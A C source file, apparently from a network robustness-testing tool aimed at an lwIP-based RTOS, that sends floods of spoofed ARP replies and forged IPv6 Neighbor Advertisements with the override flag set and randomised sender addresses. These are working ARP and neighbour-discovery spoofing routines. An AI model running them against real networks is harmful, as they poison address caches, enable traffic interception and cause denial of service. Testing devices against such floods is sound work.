// SPDX-License-Identifier: MIT
/* Addresses that are given to stations that do not have them. */
#include <string.h>

#include "frames.h"
#include "strike.h"

#define NA_BYTES 32u /* with an option: RFC 4861, sections 4.4, 4.6.1 */
enum { NA = 136, OPTION_TARGET = 2, SOLICITED = 0x40, OVERRIDE = 0x20 };

static const uint8_t all_nodes_mac[6] = { 0x33, 0x33, [5] = 1 };
static const uint8_t all_nodes[16] = { 0xff, 2, [15] = 1 };
static const uint8_t addresses[][16] = {
	{ 0xfd, 0x77, [15] = 2 }, /* Linux's */
	{ 0xfd, 0x77, [15] = 1 }, /* the RTOS's own */
	{ 0xfe, 0x80, [8] = 0, 0x49, 0x53, 0xff, 0xfe, 0x54, 0x48, 1 },
};

/* The sender, in half of them, is the station that it speaks of. */
static void spoof(const uint8_t *station)
{
	if (draw() & 1)
		memcpy(frame + 6, station, 6);
	frame[6] &= 0xfe; /* one station */
}

static void arp_spoof(unsigned long count)
{
	size_t bytes;

	open_interface();
	while (count--) {
		bytes = make_arp();
		fill(frame + ETHERNET + 8, 6);
		spoof(frame + ETHERNET + 8);
		send_frame(bytes);
	}
	tell_sent();
}

/* To the RTOS alone it is as if solicited, to all it is not (lwIP). */
static void make_advertisement(void)
{
	uint8_t *h = ip6(ICMP_6, NA_BYTES), *ip = frame + ETHERNET;
	const uint8_t *target = addresses[draw() % 8 ? 0 : 1 + draw() % 2];

	if (draw() & 1) {
		memcpy(frame, all_nodes_mac, 6);
		memcpy(ip + 24, all_nodes, 16);
	}
	h[0] = NA;
	h[4] = (uint8_t)(OVERRIDE | (draw() & SOLICITED));
	memcpy(h + 8, target, 16);
	h[24] = OPTION_TARGET;
	h[25] = 1; /* of 8 bytes */
	fill(h + 26, 6);
	spoof(h + 26);
	finish(ICMP_6, h, NA_BYTES, 2);
}

static void nd_spoof(unsigned long count)
{
	open_interface();
	while (count--) {
		make_advertisement();
		send_frame(ETHERNET + IP6 + NA_BYTES);
	}
	tell_sent();
}

const struct flood spoof_floods[] = {
	{ "arp-spoof", arp_spoof },
	{ "nd-spoof", nd_spoof },
	{ 0 },
};
